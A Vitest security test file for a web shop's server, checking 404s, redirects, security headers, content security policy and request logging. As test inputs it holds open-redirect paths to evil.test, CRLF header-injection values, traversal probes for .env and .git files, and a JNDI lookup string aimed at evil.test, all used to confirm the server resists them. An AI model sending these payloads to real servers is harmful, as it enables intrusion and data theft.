/** The built shop with its functions, store and sandbox in this process: one shop, since functions keep their services. */
import { readdirSync } from 'node:fs';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest';
import type { Load } from '#local/functions.ts';
import { type Handle, type LocalServer, serve } from '#local/http.ts';
import { openPlatform, type Platform } from '#local/platform.ts';
import { createSite } from '#local/site/site.ts';
import { addressOf, builtPages } from '../../seo/built.ts';
import { makeDataFolder, removeFolder, sender, type Answer, type RunningShop } from '../running-shop.ts';

/** Variables that the platform reads, or sets for the functions. */
const settings = [
  ...['STRIPE_SECRET_KEY', 'STRIPE_WEBHOOK_SECRET', 'STRIPE_API_ORIGIN', 'OWNER_SECRET', 'SITE_URL', 'URL'],
  ...['SMTP_URL', 'MAIL_OUTBOX_DIR', 'NETLIFY_BLOBS_CONTEXT', 'BLOBS_LOCAL_CONTEXT'],
];

const modules = new Map<string, Promise<unknown>>();
/** Caches functions, which the server loads at each request and nobody edits here. */
const loadOnce: Load = (file) => {
  const module = modules.get(file) ?? import(pathToFileURL(file).href);
  modules.set(file, module);
  return module;
};

let directory: string;
let server: LocalServer;
let platform: Platform;
let send: RunningShop['send'];
let logged: string[];

beforeAll(async () => {
  directory = await makeDataFolder();
  for (const name of settings) vi.stubEnv(name, undefined);
  vi.stubEnv('LOCAL_DATA_DIR', directory);
  const opened = Promise.withResolvers<Handle>();
  server = await serve(async (request) => (await opened.promise)(request));
  platform = await openPlatform({ root: process.cwd(), origin: server.origin, load: loadOnce });
  const site = createSite(process.cwd());
  opened.resolve(async (request) => (await platform.handle(request)) ?? site(request));
  send = sender(server.port);
});
afterAll(async () => {
  await Promise.all([server.close(), platform.close()]);
  vi.unstubAllEnvs();
  await removeFolder(directory);
});
beforeEach(() => {
  logged = [];
  for (const level of ['info', 'warn', 'error'] as const)
    vi.spyOn(console, level).mockImplementation((line: unknown) => void logged.push(String(line)));
});

const protecting = {
  'strict-transport-security': 'max-age=63072000; includeSubDomains',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'permissions-policy': 'camera=(), geolocation=(), microphone=(), payment=(), tools=(self), usb=()',
};

const json = 'application/json; charset=utf-8';
test.each([
  ...['/api/nope', '/api', '/api/', '/api/cart/a/b', '/api/checkout-session/', '/api/checkout-session', '/api/%00'],
])('%s is nothing, in JSON', async (path) => {
  const { status, headers, body } = await send(path, { headers: { accept: 'text/html' } });
  expect([status, headers['content-type']]).toEqual([404, json]);
  expect(JSON.parse(body)).toEqual({ message: 'There is nothing at this address.' });
});

test('no spelling of an address of the API is a page with 200', async () => {
  for (const path of [
    ...['//api/cart', '/api/cart/', '/API/CART', '/api//cart', '/api/./cart', '/x/../api/cart', '///api/cart'],
    ...['/api/cart?', '/api/cart;x=1', '/api/cart%2f', '/api%2fcart', '/%61pi/cart', '/api/cart.html', '/api\\cart'],
  ]) {
    const { status, headers, body } = await send(path);
    expect([200, 308, 404], path).toContain(status);
    if (status === 200) expect([path, headers['content-type'], body]).toEqual([path, json, '[]']);
  }
});

test('no function has a second address', async () => {
  for (const name of readdirSync('netlify/functions').map((file) => file.replace('.ts', '')))
    for (const path of [`/.netlify/functions/${name}`, `/.netlify/builders/${name}`])
      expect([path, (await send(path, { method: 'POST' })).status]).toEqual([path, 404]);
});

test.each([
  ...['/no-such-page', '/product/shea-butter-tar', '/products/x', '/index.php', '/%zz', '/wp-login.php?a=b'],
  ...['/404/x', '/404', '/404.html'],
])('%s is 404 with the page for it', async (path) => {
  const { status, body } = await send(path);
  expect(status).toBe(404);
  expect(body.replace(/<[^>]+>/g, '')).toContain('404 Page Not Found');
  expect(body).toContain('Did you forget to add the page to the router?');
});

test.each([
  ...['/checkout', '/checkout/', '/checkout?next=//evil.test', '/checkout?url=https://evil.test/', '/CHECKOUT'],
  ...['/checkout//evil.test', '/checkout/%2fevil.test', '/%5cevil.test', '/\\evil.test', '//evil.test/%2e%2e'],
  ...['/%2f%2fevil.test/', '/checkout%0d%0aLocation:%20//evil.test', '/products//evil.test/..'],
  ...['/discount//evil.test', '/discount/%2f%2fevil.test', '/discount/%0d%0aSet-Cookie:%20a=b'],
])('%s leads to the products or nowhere', async (path) => {
  const { status, headers } = await send(path, { headers: { host: 'evil.test', 'x-forwarded-host': 'evil.test' } });
  const { location } = headers;
  expect(status).toBeLessThan(500);
  expect(headers['set-cookie']).toBeUndefined();
  if (location === undefined) return;
  // An address with `//` redirects to the one with single slashes, which does not exist either.
  if (status === 301) expect(path.replaceAll(/[/\\]+/g, '/')).toContain(location);
  else expect(location).toMatch(path.startsWith('/discount') ? /^\/products\?code=/ : /^\/products$/);
  expect(new URL(location, 'http://localhost').host).toBe('localhost');
});

test.each([
  ['FIRSTTIMESHOPPER', 'code=FIRSTTIMESHOPPER'],
  ['A/?utm_source=mail&&gclid=x%3D&flag', 'code=A&utm_source=mail&gclid=x%3D&flag'],
  ['A?code=B&Code=C&%63ode=D&utm_source=a', 'code=A&Code=C&utm_source=a'],
  ['A?base=shea-butter&utm_term=%F0%9F%A7%BC', 'code=A&base=shea-butter&utm_term=%F0%9F%A7%BC'],
  ['S%C3%84VE%2B1+1', 'code=S%C3%84VE%2B1%2B1'],
  ['A%26utm_source=x?utm_source=y', 'code=A%26utm_source%3Dx&utm_source=y'],
  ['A%2FB?u=%zz', 'code=A%2FB&u=%zz'],
])('/discount/%s leads to the products with %s', async (path, query) => {
  const { status, headers } = await send(`/discount/${path}`);
  expect([status, headers.location]).toEqual([302, `/products?${query}`]);
});

const shea = '/product/shea-butter-';
test.each<[string, string]>([
  ['base=coconut-olive&scent=tea-tree', '/product/coconut-olive-tea-tree'],
  ['base=Coconut%20Olive%20Blend&scent=TEA%20TREE', '/product/coconut-olive-tea-tree'],
  ['utm_source=mail&scent=Rose&utm_campaign=a%26b', `${shea}rose?utm_source=mail&utm_campaign=a%26b`],
  ['base=coconut-olive', '/product/coconut-olive-jasmine'],
  ['base=shea-butter&scent=tar&utm_source=mail', '/products?utm_source=mail'],
  ['base=shea-butter&scent=..%2f..%2f%2fevil.test', '/products'],
  ['base=__proto__&scent=%zz', '/products'],
])('/products?%s leads to %s, and no browser remembers it', async (query, path) => {
  let to = `/products?${query}`;
  for (let hops = 0; hops < 3 && to !== path; hops += 1) {
    const { status, headers } = await send(to);
    expect(status).toBe(302);
    to = headers.location ?? '';
  }
  expect([to, (await send(to)).status]).toEqual([path, 200]);
});

const redirects = ['/checkout', '/discount/A', '//catalog', '/catalog.html', '/catalog/', '/products?scent=rose'];
test.each(redirects)('the redirect at %s has the headers of a page', async (path) => {
  const { status, headers } = await send(path);
  expect([301, 302]).toContain(status);
  expect(headers).toMatchObject(protecting);
  for (const part of ["default-src 'none'", "frame-ancestors 'none'"])
    expect(headers['content-security-policy']).toContain(part);
});

test('files of the project are not found', async () => {
  for (const path of [
    ...['/.env', '/.git/config', '/netlify.toml', '/package.json', '/package-lock.json', '/_headers', '/_redirects'],
    ...['/.netlify/v1/config.json', '/.netlify/local/blobs', '/astro.config.mjs', '/src/pages/index.astro'],
    ...['/dist/index.html', '/node_modules/astro/package.json', '/../package.json', '/%2e%2e/package.json'],
    ...['/..%2fpackage.json', '/.%2e/.env', '/.ENV', '/.env%00.html', '/.DS_Store'],
  ]) {
    const { status, body } = await send(path);
    expect([path, status]).toEqual([path, 404]);
    expect(body).not.toMatch(/"dependencies"|\[build\]|readSettings|repositoryformatversion/);
  }
  const built = readdirSync('dist', { recursive: true, encoding: 'utf8' });
  expect(built.filter((name) => name.endsWith('.map'))).toEqual([]);
});

const aDay = 'public, max-age=86400';
const hashed = readdirSync('dist/_astro').find((name) => name.endsWith('.js'));
test.each([
  ['/llms.txt', { 'content-type': 'text/plain; charset=utf-8', 'x-robots-tag': 'max-image-preview:large' }],
  ['/feeds/google-merchant.xml', { 'content-type': expect.stringMatching(/^application\/xml/) }],
  ['/manifest.webmanifest', { 'content-type': expect.stringMatching(/^application\/manifest\+json/) }],
  ['/product/shea-butter-rose.md', { 'content-type': expect.stringMatching(/^text\/markdown/) }],
  // Webmail may load mails' pictures.
  ['/pictures/mail/shea-butter-rose.jpg', { 'cross-origin-resource-policy': 'cross-origin' }],
  // Files with a stable name are cached for a day, those with a hash forever.
  ['/pictures/thumb/shea-butter-rose.avif', { 'cross-origin-resource-policy': 'same-origin', 'cache-control': aDay }],
  [`/_astro/${hashed}`, { 'cache-control': 'public, max-age=31536000, immutable' }],
])('%s is served with %j', async (path, expected) => {
  const { status, headers } = await send(path);
  expect([status, { 'x-robots-tag': undefined, ...headers }]).toMatchObject([200, expected]);
});

const pages = builtPages();
const answers = new Map<string, Answer>();
beforeAll(async () => {
  for (const [name] of pages) answers.set(name, await send(name === '404.html' ? '/no-such-page' : addressOf(name)));
});

test('pages each have one address, to which the others lead', async () => {
  expect(pages.length).toBeGreaterThan(20);
  for (const [name] of pages.filter(([page]) => page !== '404.html')) {
    const address = addressOf(name);
    for (const other of [`/${name}`, ...(address === '/' ? [] : [`${address}/`])]) {
      const { status, headers } = await send(`${other}?a=b`);
      expect([other, status, headers.location]).toEqual([other, 301, `${address}?a=b`]);
    }
  }
});

/** The headers that Mozilla's scanner (1.4.8) scores: 135 together. */
test('pages have the headers that protect a shopper, may be kept for the way back and set no cookie', () => {
  for (const [name, answer] of answers) {
    expect([name, answer.status]).toEqual([name, name === '404.html' ? 404 : 200]);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'public, max-age=0, must-revalidate',
      ...protecting,
    });
    const unwanted = /^access-control-|cdn-cache|^x-powered-by|^server$|^set-cookie$/;
    expect(Object.keys(answer.headers).filter((header) => unwanted.test(header))).toEqual([]);
  }
});

test('pages have a policy that allows nothing by default, nothing inline but by its hash, and no frame', () => {
  for (const { headers } of answers.values()) {
    const text = String(headers['content-security-policy']);
    const directives = text.split('; ').map((directive) => directive.split(' '));
    const policy = new Map(directives.map(([name = '', ...values]) => [name, values]));
    expect(Object.fromEntries(policy)).toMatchObject({
      'default-src': ["'none'"],
      'img-src': ["'self'", 'data:'],
      ...Object.fromEntries(['font-src', 'connect-src', 'manifest-src', 'form-action'].map((of) => [of, ["'self'"]])),
      ...Object.fromEntries(['base-uri', 'object-src', 'frame-ancestors'].map((of) => [of, ["'none'"]])),
    });
    for (const name of ['script-src', 'style-src']) {
      const [own, ...others] = policy.get(name) ?? [];
      expect([own, others.filter((source) => !/^'sha256-[\w+/]{43}='$/.test(source))]).toEqual(["'self'", []]);
    }
    expect(text.length).toBeLessThan(2000);
  }
});

test('the log has one line of JSON for every request, and nothing of the sender in it', async () => {
  const agents = ['{"level":"error","event":"forged"}', `"${'x'.repeat(5000)}`, '${jndi:ldap://evil.test/a} <script>'];
  const paths = ['/api/cart/%0d%0a%7b%22event%22%7d', '/api/nope/%1b[31m', '/api/cart?email=buyer@soap.test&x=%0a'];
  for (const agent of agents)
    for (const path of paths) await send(path, { headers: { 'user-agent': agent, cookie: 'secret=cookie' } });
  await expect.poll(() => logged.length).toBe(agents.length * paths.length);
  for (const line of logged) {
    const names = ['at', 'event', 'level', 'method', 'ms', 'requestId', 'route', 'status'];
    expect(Object.keys(JSON.parse(line) as object).toSorted()).toEqual(names);
    expect(line).not.toMatch(/forged|evil|buyer|secret|xxx|jndi/);
  }
});
